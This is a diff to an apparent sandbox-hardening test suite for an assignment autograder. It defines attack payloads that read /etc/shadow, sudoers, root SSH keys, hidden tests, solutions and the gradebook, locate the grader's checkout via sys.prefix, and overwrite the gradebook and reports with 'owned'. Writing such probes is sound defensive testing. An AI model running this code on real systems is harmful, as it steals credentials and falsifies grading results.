@@ -229,16 +229,20 @@ ATTACKS: list[Attack] = [
         "open the paths where the grader's repository, hidden tests, solutions, gradebook and reports live",
         _code(
             """
-            import glob, json, os
+            import glob, json, os, sys
             paths = [
-                "/work/main/assignments/conv2d_simple/tests/hidden/test_conv2d_simple_hidden.py",
-                "/work/main/assignments/conv2d_simple/assignment.toml",
-                "/work/main/solutions/conv2d_simple/conv2d_simple.ipynb",
-                "/work/main/.grader/gradebook.sqlite", "/work/main/grader/witness.py",
-                "/work/main/reports", "/work/shared/DESIGN.md", "/work", "/work/main",
                 "/etc/shadow", "/etc/sudoers", "/root/.bash_history", "/root/.ssh/id_rsa",
-                "/root/.pyenv/version", "/proc/1/root/work/main", "/proc/1/cwd/tests", "/data",
+                "/root/.pyenv/version", "/proc/1/cwd/tests", "/data", "/work", "/work/shared/DESIGN.md",
             ]
+            # the grader's own virtual environment usually lives inside its checkout
+            for repo in sorted({"/work/main", os.path.dirname(os.path.realpath(sys.prefix))}):
+                paths += [
+                    f"{repo}/assignments/conv2d_simple/tests/hidden/test_conv2d_simple_hidden.py",
+                    f"{repo}/assignments/conv2d_simple/assignment.toml",
+                    f"{repo}/solutions/conv2d_simple/conv2d_simple.ipynb",
+                    f"{repo}/.grader/gradebook.sqlite", f"{repo}/grader/witness.py",
+                    f"{repo}/reports", repo, os.path.dirname(repo), f"/proc/1/root{repo}",
+                ]
             for pattern in ("/tmp/**", "/work/**", "/home/**", "/var/**", "/run/**", "/mnt/*", "/opt/*",
                             "/srv/*", "/media/*", "/data/*"):
                 paths += glob.glob(pattern, recursive=True)[:200]
@@ -405,7 +409,7 @@ ATTACKS: list[Attack] = [
         "create or replace files in every folder it can reach (results, reports, gradebook, tests)",
         _code(
             f"""
-            import json, os
+            import json, os, sys
             found = {{"created": [], "replaced": []}}
             for root, dirs, files in os.walk("/"):
                 if root.startswith(("/proc", "/sys")):
@@ -427,8 +431,9 @@ ATTACKS: list[Attack] = [
                             found["replaced"].append(os.path.join(root, name))
                         except OSError:
                             pass
-            for path in ("/work/main/.grader/gradebook.sqlite", "/work/main/reports/conv2d_simple/index.html",
-                         "/tmp/result.json", "/data/{PWNED}"):
+            repo = os.path.dirname(os.path.realpath(sys.prefix))
+            for path in (f"{{repo}}/.grader/gradebook.sqlite", f"{{repo}}/reports/conv2d_simple/index.html",
+                         "/work/main/.grader/gradebook.sqlite", "/tmp/result.json", "/data/{PWNED}"):
                 try:
                     with open(path, "wb") as fh:
                         fh.write(b"owned")
